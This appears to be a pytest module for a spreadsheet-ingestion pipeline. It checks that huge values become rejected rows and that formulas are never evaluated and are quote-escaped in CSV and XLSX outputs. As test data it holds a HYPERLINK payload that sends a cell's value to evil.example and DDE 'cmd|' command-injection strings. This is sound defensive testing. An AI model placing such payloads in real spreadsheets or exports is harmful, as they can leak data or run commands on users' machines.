"""Cell values that crash the pipeline today, found by the fuzzers (kept as strict xfails until
fixed), and the formulas and ``=HYPERLINK()`` cells that must never run anywhere.

The expected behaviour of the xfails is the contract's: a value that cannot be taken is a
rejected row (file, sheet, row, column, reason), never an unhandled exception.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine

from pipelines.ingest import Limits, ingest_path, validate_path
from pipelines.ingest_entries import ingest_entry_path
from pipelines.load import safe_csv
from pipelines.load.db import open_session
from pipelines.load.release import publish
from pipelines.load.workflow import decide, select_actions
from schemas.rules import load_rulebook
from tests.entries import minimal_entries, write_entries
from tests.workbooks import SIRET_A, minimal_sheets, write_workbook

LIMITS = Limits(50 * 2**20, 2**30)
NAME = "prf_2025_20250115.xlsx"
T0 = dt.datetime(2025, 3, 1, 2, 0, tzinfo=dt.UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def as_text(path: Path, cells: dict[tuple[str, int, int], str]) -> Path:
    """Rewrite cells as string cells (xlsxwriter would have written ``=…`` as a formula).

    ``cells``: (sheet, row index counting the header from 0, column index) -> text.
    """
    book = openpyxl.load_workbook(path)
    for (sheet, row, column), text in cells.items():
        cell = book[sheet].cell(row + 1, column + 1)
        cell.value = text
        cell.data_type = "s"
    book.save(path)
    return path


def rejects(path: Path) -> list[tuple[str, int, str | None, str]]:
    report, _ = validate_path(path, LIMITS)
    return [(e.sheet, e.row, e.column, e.reason) for e in report.errors]


def test_an_integer_beyond_64_bits_is_a_row_reject(tmp_path: Path) -> None:
    sheets = minimal_sheets()
    sheets["Actions"][1][7] = 1e30
    path = write_workbook(tmp_path / NAME, sheets)
    assert ("actions", 2, "nb_places", "type-invalide") in rejects(path)


def test_a_huge_number_in_a_date_cell_refuses_the_file_naming_its_sheet(tmp_path: Path) -> None:
    """calamine cannot read such a cell (it panics converting it to a date): the file is
    refused as unreadable, naming the sheet and the likely cause, never a crash."""
    sheets = minimal_sheets()
    sheets["Lots"][1][6] = dt.datetime(2025, 2, 1)  # a date-formatted cell
    path = write_workbook(tmp_path / NAME, sheets)
    book = openpyxl.load_workbook(path)
    book["Lots"]["G2"].value = -1e15  # the format stays: a typo in a date cell
    book.save(path)
    report, validated = validate_path(path, LIMITS)
    assert validated is None and report.refusal is not None
    assert report.refusal.reason == "fichier-illisible"
    assert "la feuille « Lots » contient une valeur hors limites" in report.refusal.message


def test_an_integer_beyond_the_stores_columns_is_a_row_reject(
    engine: Engine, tmp_path: Path
) -> None:
    """3 000 000 000 places fit a 64-bit frame but not the store's INTEGER column: the rows
    are rejected with the bound, on both stores (PostgreSQL would refuse the INSERT)."""
    sheets = minimal_sheets()
    sheets["Actions"][1][7] = 3_000_000_000
    sheets["Lots"][1][4] = 3_000_000_000
    path = write_workbook(tmp_path / NAME, sheets)
    result = ingest_path(path, engine=engine, output_dir=tmp_path / "out", limits=LIMITS,
                         threshold=0.2, now=T0)  # fmt: skip
    assert result.status == "integree"
    located = {(e.sheet, e.row, e.column, e.reason): e.message for e in result.report.errors}
    assert ("actions", 2, "nb_places", "valeur-trop-grande") in located
    assert located[("lots", 2, "nb_places", "valeur-trop-grande")] == (
        "« nb_places » doit être inférieur ou égal à 2147483647 (valeur « 3000000000 »)."
    )


# --------------------------------------------------------------------------- formulas


def test_formulas_are_never_evaluated_only_their_cached_values_read(tmp_path: Path) -> None:
    """A formula with a cached value gives that value; one without gives a blank cell (a
    reject when the column is mandatory), never the formula's text nor its result."""
    sheets = minimal_sheets()
    path = write_workbook(tmp_path / NAME, sheets, formulas={
        ("Actions", 1, 4): (HYPERLINK, "Cliquez ici"),  # intitule, cached text
        ("Actions", 2, 6): ("=UPPER(\"nantes\")", ""),  # commune, no cached value
        ("Lots", 1, 4): ("=1E30", 30),  # nb_places, cached 30
    })  # fmt: skip
    report, validated = validate_path(path, LIMITS)
    assert validated is not None
    assert [(e.sheet, e.row, e.column, e.reason) for e in report.errors] == [
        ("actions", 3, "commune", "valeur-manquante")
    ]
    assert validated.frames["actions"].at[2, "intitule"] == "Cliquez ici"
    assert validated.frames["lots"].at[2, "nb_places"] == 30


def test_a_formula_typed_as_text_is_escaped_in_the_quarantine_csv(
    engine: Engine, tmp_path: Path
) -> None:
    """``=HYPERLINK(…)`` typed as text in a rejected cell lands in the quarantine CSV with
    the quote prefix: a spreadsheet shows it, never runs it."""
    sheets = minimal_sheets()
    path = as_text(write_workbook(tmp_path / NAME, sheets), {
        ("Actions", 1, 5): HYPERLINK,  # code_postal: rejected (format-invalide)
        ("Actions", 2, 5): "@SUM(1+1)*cmd|' /C calc'!A0",
    })  # fmt: skip
    result = ingest_path(path, engine=engine, output_dir=tmp_path / "out", limits=LIMITS,
                         threshold=0.2, now=T0)  # fmt: skip
    assert result.quarantine is not None
    text = result.quarantine.read_bytes().decode("utf-8-sig")
    values = [row["value"] for row in csv.DictReader(io.StringIO(text), delimiter=";")]
    assert "'" + HYPERLINK in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert not any(v.startswith(safe_csv.FORMULA_PREFIXES) for v in values)
    assert "\n=" not in text and ";=" not in text and ";@" not in text


@pytest.fixture
def published_formulas(engine: Engine, tmp_path: Path) -> Path:
    """Entries whose texts are formulas (as strings), validated and published."""
    frame = write_workbook(tmp_path / NAME, minimal_sheets())
    out = tmp_path / "out"
    assert ingest_path(frame, engine=engine, output_dir=out, limits=LIMITS, threshold=0.2,
                       now=T0).status == "integree"  # fmt: skip
    sheets = minimal_entries()
    path = as_text(write_entries(tmp_path / "in", sheets, siret=SIRET_A), {
        ("Formations", 1, 2): HYPERLINK,  # intitule_formation
        ("Actions", 1, 7): "+33 2 40 00 00 00",  # plus_formation
        **{("Sessions", n, 5): "-cmd|' /C calc'!A0" for n in range(1, len(sheets["Sessions"]))},
    })  # fmt: skip
    result = ingest_entry_path(path, engine=engine, output_dir=out, limits=LIMITS,
                               rulebook=load_rulebook(), threshold=0.5, now=T0)  # fmt: skip
    assert result.status == "integree"
    with open_session(engine, write=True) as db, db.begin():
        decide(db, select_actions(db, all_valid=True), refuse=False, reason=None, now=T0,
               who="test")  # fmt: skip
    published = publish(engine, output_dir=out, keep=2, now=T0, run_id="formulas")
    return out / "releases" / published.release.name


def test_formulas_are_escaped_in_every_csv_and_xlsx_feed(published_formulas: Path) -> None:
    """Every cell of every CSV of the release (sessions, organisations' CSV, quarantine) and
    every text cell of every XLSX is safe: CSV cells quote-prefixed, XLSX cells strings (never
    ``<f>``) with Excel's quote prefix."""
    csvs = sorted(published_formulas.rglob("*.csv"))
    assert csvs
    seen = set()
    for path in csvs:
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(safe_csv.FORMULA_PREFIXES), (path.name, cell)
                seen.add(cell)
    assert "'" + HYPERLINK in seen or any(HYPERLINK in c for c in seen)
    books = sorted(published_formulas.rglob("*.xlsx"))
    assert books
    found = False
    for path in books:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), (path.name, name)
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell)
                        found = True
    assert found  # the formulas of the entries reached the catalogue, as texts
